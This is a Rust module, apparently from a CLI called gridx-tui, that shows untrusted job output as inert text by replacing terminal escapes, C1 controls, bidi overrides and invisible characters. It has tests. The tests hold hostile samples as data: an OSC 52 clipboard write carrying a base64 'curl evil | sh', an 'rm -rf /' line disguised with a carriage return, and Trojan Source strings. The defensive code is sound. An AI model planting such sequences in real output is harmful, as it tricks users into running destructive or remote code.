//! What a job printed is shown, never obeyed. Job output, a worker's failure message,
//! a coordinator's error, a GPU's name: strangers wrote them, and a terminal would
//! otherwise act on the escape sequences in them (set the clipboard with OSC 52,
//! clear the screen, retitle the window, reorder text with bidi overrides). Every
//! face (dashboard, REPL, one-shot commands) passes such text through [`inert`] before
//! it reaches a terminal; `gridx-tui output` without a terminal (or with `--raw`)
//! writes the stored bytes untouched instead (docs/cli.md).

use std::borrow::Cow;
use std::fmt::Write as _;

/// How one character reaches the terminal.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Shown {
    Itself,
    /// Caret notation: `^` and this character (ESC is `^[`, DEL `^?`).
    Caret(char),
    /// `<U+XXXX>`: a character a terminal obeys or hides instead of drawing.
    CodePoint,
}

fn shown(c: char) -> Shown {
    match c {
        '\n' | '\t' => Shown::Itself,
        // C0: flipping bit 6 gives the caret letter (0x1B ESC -> '[', 0x0D CR -> 'M').
        '\u{0}'..='\u{1f}' => Shown::Caret(char::from(c as u8 ^ 0x40)),
        '\u{7f}' => Shown::Caret('?'),
        c if disguises(c) => Shown::CodePoint,
        _ => Shown::Itself,
    }
}

/// Characters that are not drawn as themselves: C1 controls (a terminal may take
/// U+009B as CSI and U+009D as OSC) and the invisible format characters that can
/// make text read differently from what it is. ZWJ and ZWNJ (U+200D, U+200C) stay:
/// emoji and several scripts need them, and they only join what is already there.
fn disguises(c: char) -> bool {
    matches!(c,
        '\u{80}'..='\u{9f}'           // C1 controls
        | '\u{61c}'                    // Arabic letter mark (bidi)
        | '\u{180e}'                   // Mongolian vowel separator (invisible)
        | '\u{200b}'                   // zero width space
        | '\u{200e}' | '\u{200f}'      // left-to-right and right-to-left marks
        | '\u{2028}' | '\u{2029}'      // line and paragraph separators
        | '\u{202a}'..='\u{202e}'      // bidi embeddings and overrides
        | '\u{2060}'..='\u{2064}'      // word joiner, invisible operators
        | '\u{2066}'..='\u{206f}'      // bidi isolates, deprecated format controls
        | '\u{feff}'                   // zero width no-break space (BOM)
        | '\u{fff9}'..='\u{fffb}'      // interlinear annotations
        | '\u{e0000}'..='\u{e007f}' // tags: invisible copies of ASCII
    )
}

/// Whether every byte is printable ASCII, a newline or a tab: the common case, seen
/// without decoding a character.
fn plainly_printable(s: &str) -> bool {
    s.bytes()
        .all(|b| (0x20..0x7f).contains(&b) || b == b'\n' || b == b'\t')
}

/// `s` as a terminal may show it: C0 controls other than newline and tab in caret
/// notation (ESC `^[`, CR `^M`, DEL `^?`), CRLF kept as a line end (`\n`), C1
/// controls, bidi overrides and isolates and other invisible format characters as
/// `<U+XXXX>`. Borrowed when nothing needs changing. The result is plain text
/// `inert` leaves as it is, so applying it twice changes nothing.
pub fn inert(s: &str) -> Cow<'_, str> {
    if plainly_printable(s) {
        return Cow::Borrowed(s);
    }
    let Some(first) = s
        .char_indices()
        .find(|&(_, c)| shown(c) != Shown::Itself)
        .map(|(at, _)| at)
    else {
        return Cow::Borrowed(s);
    };
    let mut out = String::with_capacity(s.len() + 16);
    out.push_str(&s[..first]);
    let mut chars = s[first..].chars().peekable();
    while let Some(c) = chars.next() {
        match shown(c) {
            Shown::Itself => out.push(c),
            // CRLF is a line end, as a Windows program writes one.
            Shown::Caret(_) if c == '\r' && chars.peek() == Some(&'\n') => {}
            Shown::Caret(letter) => {
                out.push('^');
                out.push(letter);
            }
            Shown::CodePoint => {
                let _ = write!(out, "<U+{:04X}>", u32::from(c));
            }
        }
    }
    Cow::Owned(out)
}

/// [`inert`] for an owned string: the same string back when nothing needs changing.
pub fn inert_string(s: String) -> String {
    match inert(&s) {
        Cow::Borrowed(_) => s,
        Cow::Owned(shown) => shown,
    }
}

/// Serialized JSON with DEL, C1 controls and the invisible format characters written
/// as `\uXXXX` escapes (a surrogate pair past U+FFFF). serde_json already escapes C0
/// controls but writes these as they are. Outside its strings JSON text is ASCII, so
/// each such character sits in a string, where the escape means the same character:
/// a parser reads back exactly the same value.
pub fn inert_json(json: &str) -> Cow<'_, str> {
    let escaped = |c: char| c == '\u{7f}' || disguises(c);
    if plainly_printable(json) || !json.chars().any(escaped) {
        return Cow::Borrowed(json);
    }
    let mut out = String::with_capacity(json.len() + 16);
    for c in json.chars() {
        if escaped(c) {
            let mut units = [0u16; 2];
            for unit in c.encode_utf16(&mut units) {
                let _ = write!(out, "\\u{unit:04x}");
            }
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::{inert, inert_json};
    use std::borrow::Cow;

    #[test]
    fn plain_text_is_borrowed_untouched() {
        for text in [
            "",
            "hello\n",
            "a\tb\n\nc",
            "héllo wörld ✓ 日本語",
            "👨‍👩‍👧 family",
        ] {
            assert!(
                matches!(inert(text), Cow::Borrowed(t) if t == text),
                "{text:?}"
            );
        }
    }

    #[test]
    fn an_osc_52_clipboard_write_is_shown_not_obeyed() {
        // OSC 52: put "curl evil | sh" on the clipboard, ended by BEL or by ST.
        assert_eq!(
            inert("\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07ok"),
            "^[]52;c;Y3VybCBldmlsIHwgc2g=^Gok"
        );
        assert_eq!(inert("\x1b]52;c;eA==\x1b\\"), "^[]52;c;eA==^[\\");
    }

    #[test]
    fn a_csi_clear_screen_and_cursor_moves_are_shown() {
        assert_eq!(inert("\x1b[2J\x1b[H hello"), "^[[2J^[[H hello");
        assert_eq!(inert("\x1b[31mred\x1b[0m"), "^[[31mred^[[0m");
    }

    #[test]
    fn a_title_change_is_shown() {
        assert_eq!(inert("\x1b]0;pwned\x07 hello"), "^[]0;pwned^G hello");
        assert_eq!(inert("\x1b]2;title\x1b\\"), "^[]2;title^[\\");
    }

    #[test]
    fn c0_controls_and_del_use_caret_notation() {
        assert_eq!(inert("a\0b"), "a^@b");
        assert_eq!(inert("bell\x07"), "bell^G");
        assert_eq!(inert("back\x08space"), "back^Hspace");
        assert_eq!(inert("del\x7f"), "del^?");
        assert_eq!(inert("\x1f"), "^_");
    }

    #[test]
    fn crlf_is_a_line_end_and_a_lone_cr_is_shown() {
        assert_eq!(inert("one\r\ntwo\r\n"), "one\ntwo\n");
        // A lone CR would move back and overwrite what was printed ("progress bars",
        // or hiding the start of a line).
        assert_eq!(inert("rm -rf /\rsafe"), "rm -rf /^Msafe");
        assert_eq!(inert("\r\r\n"), "^M\n");
    }

    #[test]
    fn c1_controls_are_code_points() {
        // U+009B is CSI and U+009D OSC, in one character each.
        assert_eq!(inert("\u{9b}2J"), "<U+009B>2J");
        assert_eq!(inert("\u{9d}0;x\u{9c}"), "<U+009D>0;x<U+009C>");
        assert_eq!(inert("\u{85}"), "<U+0085>");
    }

    #[test]
    fn bidi_overrides_and_isolates_cannot_reorder_text() {
        // "Trojan Source": text that reads differently from what it is.
        assert_eq!(
            inert("access\u{202e}nimda\u{202c} ok"),
            "access<U+202E>nimda<U+202C> ok"
        );
        assert_eq!(
            inert("\u{2066}a\u{2067}b\u{2068}c\u{2069}"),
            "<U+2066>a<U+2067>b<U+2068>c<U+2069>"
        );
        assert_eq!(inert("x\u{200f}y\u{61c}"), "x<U+200F>y<U+061C>");
    }

    #[test]
    fn invisible_characters_are_shown() {
        assert_eq!(inert("pay\u{200b}pal"), "pay<U+200B>pal");
        assert_eq!(inert("\u{feff}bom"), "<U+FEFF>bom");
        assert_eq!(inert("a\u{e0041}"), "a<U+E0041>");
        // ZWJ joins emoji: kept.
        assert_eq!(inert("👩\u{200d}💻"), "👩\u{200d}💻");
    }

    #[test]
    fn applying_it_twice_changes_nothing() {
        let hostile = "\x1b]0;t\x07\r\u{9b}\u{202e}x\u{200b}\x7f";
        let once = inert(hostile).into_owned();
        assert!(matches!(inert(&once), Cow::Borrowed(_)), "{once:?}");
    }

    #[test]
    fn json_keeps_its_value_with_escapes() {
        let value = serde_json::json!({ "output": "a\u{9b}2J\u{202e}b\u{7f}\u{e0041}\x1b" });
        let text = value.to_string();
        let safe = inert_json(&text);
        assert!(safe.is_ascii(), "{safe}");
        assert!(
            safe.contains("\\u009b") && safe.contains("\\udb40\\udc41"),
            "{safe}"
        );
        let back: serde_json::Value = serde_json::from_str(&safe).unwrap();
        assert_eq!(back, value);
        let plain = r#"{"a":"héllo ✓"}"#;
        assert!(matches!(inert_json(plain), Cow::Borrowed(_)));
    }
}
